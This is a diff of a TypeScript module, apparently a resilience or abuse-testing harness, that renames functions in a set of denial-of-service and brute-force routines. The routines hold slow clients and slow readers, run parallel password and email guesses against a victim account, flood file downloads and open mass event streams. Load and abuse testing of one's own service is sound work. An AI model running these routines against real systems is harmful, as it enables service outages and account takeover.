@@ -1,6 +1,6 @@
 import type { Agent } from 'node:http'
 import { setTimeout as wait } from 'node:timers/promises'
-import { begin, type Headers, send, storm, type Target } from './attacker.ts'
+import { begin, type Headers, send, sendStorm, type Target } from './attacker.ts'
 
 export type Spoils = Target & {
   /** Accounts of the attackers'. */
@@ -12,13 +12,13 @@ export type Spoils = Target & {
   fileUrl: string
 }
 
-const counted = (statuses: Record<string, number>) =>
+const showCounts = (statuses: Record<string, number>) =>
   Object.entries(statuses)
     .map(([status, times]) => `${times} x ${status === '0' ? 'dropped' : status}`)
     .join(', ')
 
 /** 300 connections that send a byte a second: headers, JSON bodies, files. */
-async function slowClients(spoils: Spoils): Promise<string> {
+async function holdSlowClients(spoils: Spoils): Promise<string> {
   const post = (path: string, length: number, headers: Headers = {}) =>
     begin(
       spoils,
@@ -44,9 +44,9 @@ async function slowClients(spoils: Spoils): Promise<string> {
 }
 
 /** Addresses at a gate and passwords of somebody else, 50 at a time. */
-async function parallelGuesses(spoils: Spoils): Promise<string> {
+async function guessInParallel(spoils: Spoils): Promise<string> {
   const json = { 'content-type': 'application/json' }
-  const gate = await storm(2000, 50, (agent, n) =>
+  const gate = await sendStorm(2000, 50, (agent, n) =>
     send(spoils, agent, {
       method: 'POST',
       path: `/api/public/verifications/${spoils.link}/gate`,
@@ -54,7 +54,7 @@ async function parallelGuesses(spoils: Spoils): Promise<string> {
       body: JSON.stringify({ email: `guess-${n}@example.com` }),
     }),
   )
-  const password = await storm(2000, 50, (agent, n) =>
+  const password = await sendStorm(2000, 50, (agent, n) =>
     send(spoils, agent, {
       method: 'POST',
       path: '/auth/v1/token?grant_type=password',
@@ -62,20 +62,20 @@ async function parallelGuesses(spoils: Spoils): Promise<string> {
       body: JSON.stringify({ email: spoils.victim, password: `Guess-${n}-horse` }),
     }),
   )
-  return `gate ${counted(gate)}; passwords ${counted(password)}`
+  return `gate ${showCounts(gate)}; passwords ${showCounts(password)}`
 }
 
 /** The same record and the same large file again and again, 50 at a time. */
-async function repeatedDownloads(spoils: Spoils): Promise<string> {
+async function repeatDownloads(spoils: Spoils): Promise<string> {
   const [headers = {}] = spoils.accounts
   const get = (path: string, more: Headers) => (agent: Agent) => send(spoils, agent, { path, headers: more })
-  const record = await storm(3000, 50, get(`/api/records/${spoils.record}/files/record.pdf`, headers))
-  const file = await storm(600, 50, get(spoils.fileUrl, {}))
-  return `record ${counted(record)}; file ${counted(file)}`
+  const record = await sendStorm(3000, 50, get(`/api/records/${spoils.record}/files/record.pdf`, headers))
+  const file = await sendStorm(600, 50, get(spoils.fileUrl, {}))
+  return `record ${showCounts(record)}; file ${showCounts(file)}`
 }
 
 /** 200 downloads of a large file that nobody reads. */
-async function slowReaders(spoils: Spoils): Promise<string> {
+async function holdSlowReaders(spoils: Spoils): Promise<string> {
   const sockets = Array.from({ length: 200 }, () => {
     const socket = begin(spoils, `GET ${spoils.fileUrl} HTTP/1.1\r\nHost: x\r\n\r\n`)
     socket.pause()
@@ -87,7 +87,7 @@ async function slowReaders(spoils: Spoils): Promise<string> {
 }
 
 /** 1,500 event streams of one account. */
-async function eventStreams(spoils: Spoils): Promise<string> {
+async function openEventStreams(spoils: Spoils): Promise<string> {
   const { authorization = '' } = spoils.accounts.at(-1) ?? {}
   const open = new Set<object>()
   const sockets = []
@@ -112,9 +112,9 @@ async function eventStreams(spoils: Spoils): Promise<string> {
 }
 
 export const attacks: Record<string, (spoils: Spoils) => Promise<string>> = {
-  'slow clients': slowClients,
-  'slow readers': slowReaders,
-  'parallel guesses': parallelGuesses,
-  'repeated downloads': repeatedDownloads,
-  'event streams': eventStreams,
+  'slow clients': holdSlowClients,
+  'slow readers': holdSlowReaders,
+  'parallel guesses': guessInParallel,
+  'repeated downloads': repeatDownloads,
+  'event streams': openEventStreams,
 }
